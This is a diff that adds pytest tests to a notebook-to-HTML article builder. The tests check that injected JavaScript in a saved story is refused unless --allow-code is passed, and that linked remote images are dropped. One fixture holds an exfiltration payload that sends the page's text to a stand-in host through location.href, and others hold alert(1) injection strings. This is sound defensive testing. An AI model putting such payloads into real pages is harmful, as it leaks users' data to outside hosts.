@@ -192,3 +192,93 @@ def test_a_notebooks_markdown_is_escaped_in_its_article():
     assert "<strong>bold</strong>" in rendered
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered
     assert "<script>" not in rendered
+
+
+def _notebook_showing(tmp_path, edit=None, markdown="# Saved story"):
+    """A notebook whose one code cell shows a story, its saved document passed through ``edit``."""
+    import html
+    import json
+    import re
+
+    from ipyreport import Slide, Story, presets, samples
+
+    story = Story(
+        samples.sales(),
+        title="Saved",
+        slides=[Slide(presets.chart("column", x="Region", y="Revenue"))],
+    )
+    page = story._repr_mimebundle_()["text/html"]
+    if edit is not None:
+
+        def tamper(frame):
+            inner = html.unescape(frame.group(1))
+            found = re.search(r'(id="ipyreport-story">)(.*?)(</script>)', inner, re.DOTALL)
+            document = edit(json.loads(found.group(2)))
+            inner = inner.replace(found.group(2), json.dumps(document).replace("<", "\\u003c"))
+            return f'srcdoc="{html.escape(inner, quote=True)}"'
+
+        page = re.sub(r'srcdoc="([^"]*)"', tamper, page)
+    cells = [
+        {"cell_type": "markdown", "metadata": {}, "source": [markdown]},
+        {
+            "cell_type": "code",
+            "metadata": {},
+            "execution_count": 1,
+            "source": ["story"],
+            "outputs": [
+                {
+                    "output_type": "execute_result",
+                    "execution_count": 1,
+                    "metadata": {},
+                    "data": {"text/html": page, "text/plain": "story"},
+                }
+            ],
+        },
+    ]
+    notebook = tmp_path / "saved.ipynb"
+    notebook.write_text(
+        json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
+    )
+    return notebook
+
+
+def _with_raw_filter(document):
+    code = "r => { location.href = 'https://example.invalid/?' + document.body.innerText; return true; }"
+    document["slides"][0]["steps"][0]["filter"] = {"and": [{"raw": code}]}
+    return document
+
+
+def test_a_notebooks_saved_story_with_javascript_is_refused(tmp_path, capsys):
+    notebook = _notebook_showing(tmp_path, _with_raw_filter)
+    out = tmp_path / "article.html"
+    assert main(["build", str(notebook), "-o", str(out)]) == 1
+    error = capsys.readouterr().err
+    assert "cell 2: the saved story runs its own JavaScript (a raw filter:" in error
+    assert "build with --allow-code only if you trust the notebook" in error
+    assert not out.exists()
+    assert main(["build", str(notebook), "-o", str(out), "--allow-code"]) == 0
+    assert "example.invalid" in out.read_text()
+
+
+def test_a_notebooks_saved_story_must_be_a_story_document(tmp_path, capsys):
+    def broken(document):
+        document["slides"][0]["steps"][0]["config"] = "alert(1)"
+        return document
+
+    notebook = _notebook_showing(tmp_path, broken)
+    assert main(["build", str(notebook), "-o", str(tmp_path / "a.html")]) == 1
+    error = capsys.readouterr().err
+    assert "cell 2: the saved story is not a story document (slides/0/steps/0/config:" in error
+
+
+def test_a_notebooks_untouched_story_builds_and_its_linked_pictures_are_dropped(tmp_path):
+    import re
+
+    markdown = "# Saved story\n\n![the logo](https://example.invalid/logo.png) and ![](http://x.invalid/a.png)"
+    notebook = _notebook_showing(tmp_path, markdown=markdown)
+    out = tmp_path / "article.html"
+    assert main(["build", str(notebook), "-o", str(out), "-q"]) == 0
+    page = out.read_text()
+    assert "invalid" not in page
+    assert re.findall(r"<img [^>]*src=", page) == []
+    assert '<span class="ipyreport-dropped-picture">the logo</span>' in page
